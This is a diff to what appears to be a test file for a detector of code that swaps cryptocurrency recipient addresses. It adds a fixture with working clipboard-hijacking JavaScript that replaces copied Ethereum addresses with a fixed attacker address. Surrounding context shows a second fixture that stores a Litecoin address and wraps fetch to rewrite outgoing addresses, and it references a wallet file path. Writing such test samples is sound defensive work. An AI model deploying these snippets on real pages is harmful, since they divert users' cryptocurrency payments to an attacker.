@@ -8,6 +8,12 @@ const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resour
 examine(replacesRecipients, {
   speaks: [
     {
+      when: 'a page puts its own address where one is copied',
+      files: {
+        'index.js': `document.addEventListener('copy', event => { const text = document.getSelection().toString(); if (/0x[a-fA-F0-9]{40}/.test(text)) { event.clipboardData.setData('text/plain', text.replace(/0x[a-fA-F0-9]{40}/, '0x52908400098527886E0F7030069857D2E4169EE7')); event.preventDefault(); } });`,
+      },
+    },
+    {
       when: 'what is sent is searched for addresses',
       files: {
         'index.js': `${SHAPE} const ours = '${LITECOIN}'; const real = globalThis.fetch;
